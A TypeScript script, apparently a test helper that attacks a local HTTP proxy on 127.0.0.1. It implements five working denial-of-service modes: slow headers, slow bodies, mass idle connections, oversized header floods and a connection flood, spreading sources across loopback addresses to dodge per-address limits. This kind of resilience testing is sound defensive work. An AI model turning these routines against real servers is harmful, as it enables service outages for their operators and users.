/** `attacker.ts KIND PORT HOST`: one abuse of the proxy from a process of its own, until it is ended; prints `under way` when it is. */
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

const [kind = '', port = '0', host = ''] = process.argv.slice(2);
const IDLE = 10_000;
const PER_ADDRESS = 150;
const SLOW = 400;
const FLOOD_PER_SECOND = 1_000;

let opened = 0;

/** From one of many addresses of the loopback's, so that none has too many. */
function spread(): Socket {
  const n = Math.floor(opened++ / PER_ADDRESS) % 200;
  return dial(`127.0.1.${n + 1}`);
}

function dial(localAddress: string): Socket {
  return connect({ port: Number(port), host: '127.0.0.1', localAddress })
    .on('error', () => {})
    .resume();
}

/** Every connection sends this beginning, then a byte twice a second, and comes back when it is closed. */
async function drip(beginning: string): Promise<never> {
  const sockets = Array.from({ length: SLOW }, () => spread());
  for (const socket of sockets) socket.write(beginning);
  console.log('under way');
  for (;;) {
    await wait(500);
    for (const [at, socket] of sockets.entries()) {
      if (socket.destroyed) {
        sockets[at] = spread();
        sockets[at].write(beginning);
      } else socket.write('x');
    }
  }
}

const KINDS: Readonly<Record<string, () => Promise<unknown>>> = {
  'slow heads': () => drip(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `),
  'slow bodies': () => drip(`POST /echo HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 100000\r\n\r\n`),
  'idle connections': async () => {
    let connected = 0;
    for (let n = 0; n < IDLE; n++) {
      spread().once('connect', () => connected++);
      if (n % 100 === 99) await wait(10);
    }
    for (let n = 0; n < 200 && connected < IDLE; n++) await wait(50);
    console.log(`${connected} connections`);
    console.log('under way');
    await wait(600_000);
  },
  'header bombs': async () => {
    const bomb = Buffer.from(
      `GET / HTTP/1.1\r\nHost: ${host}\r\n${'X-Bomb: 0123456789abcdef\r\n'.repeat(40_000)}`,
    );
    const lines = Array.from({ length: 8 }, async () => {
      for (;;) {
        const socket = spread();
        const over = new Promise((resolve) => socket.once('close', resolve));
        socket.end(bomb);
        await Promise.race([over, wait(5_000)]);
        socket.destroy();
        await wait(20);
      }
    });
    console.log('under way');
    await Promise.all(lines);
  },
  'a thousand connections a second': async () => {
    console.log('under way');
    const kept: Socket[] = [];
    for (;;) {
      for (let n = 0; n < FLOOD_PER_SECOND / 100; n++) {
        const socket = dial('127.0.0.66');
        socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
        kept.push(socket);
      }
      for (const old of kept.splice(0, Math.max(0, kept.length - 1_000))) old.destroy();
      await wait(10);
    }
  },
};

await KINDS[kind]?.();
